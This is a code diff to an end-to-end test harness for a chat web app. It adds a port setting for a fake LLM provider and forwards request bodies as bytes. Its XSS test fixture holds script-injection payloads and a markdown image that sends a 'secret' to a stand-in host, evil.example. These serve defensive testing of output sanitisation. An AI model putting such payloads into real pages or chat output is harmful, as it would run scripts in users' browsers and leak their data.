@@ -12,7 +12,8 @@
  *     and it answers the server's title requests with the first words of the message, so
  *     titles are predictable (and carry any payload the message had);
  *   - the real server (`bun server/index.ts`) serving the built app from web/build.
- * Builds the app first when web/build is missing. Port: E2E_PORT (default 4321).
+ * Builds the app first when web/build is missing. Port: E2E_PORT (default 4321); the fake provider
+ * listens on E2E_FAKE_PORT (default E2E_PORT + 1), so a spec can reach its /__fake/ control routes.
  */
 import { existsSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -29,7 +30,7 @@ if (!existsSync(join(root, 'web', 'build', 'index.html')) || process.env.E2E_BUI
 }
 
 const cluster = await startCluster();
-const fake = await startFakeProvider(0);
+const fake = await startFakeProvider(Number(process.env.E2E_FAKE_PORT ?? port + 1));
 fake.chat.defaults.firstTokenDelayMs = 150;
 fake.chat.defaults.chunkDelayMs = 70;
 
@@ -44,7 +45,7 @@ const XSS_REPLY = [
   '<a href="#" onclick="window.__xss=\'onclick\'">raw link</a>',
   '![exfiltrate](https://evil.example/collect?q=secret)',
   '<details open ontoggle="window.__xss=\'toggle\'"><summary>x</summary></details>',
-].join('\n');
+].join('\n\n');
 
 const CODE_REPLY = [
   'Here is a function:',
@@ -127,9 +128,11 @@ const directives = Bun.serve({
     const url = new URL(req.url);
     const forward = () => {
       const target = new URL(url.pathname + url.search, fake.url);
-      return fetch(target, { method: req.method, headers: req.headers, body: req.method === 'GET' ? undefined : bodyText });
+      return fetch(target, { method: req.method, headers: req.headers, body: bodyBytes });
     };
-    const bodyText = req.method === 'GET' ? '' : await req.text();
+    // Forwarded as bytes: a recording upload is binary, and text decoding would corrupt it.
+    const bodyBytes = req.method === 'GET' ? undefined : new Uint8Array(await req.arrayBuffer());
+    const bodyText = bodyBytes ? new TextDecoder().decode(bodyBytes) : '';
     if (!url.pathname.endsWith('/chat/completions') || req.method !== 'POST') return forward();
     let parsed: { messages?: { role: string; content: unknown }[]; stream?: boolean } = {};
     try {
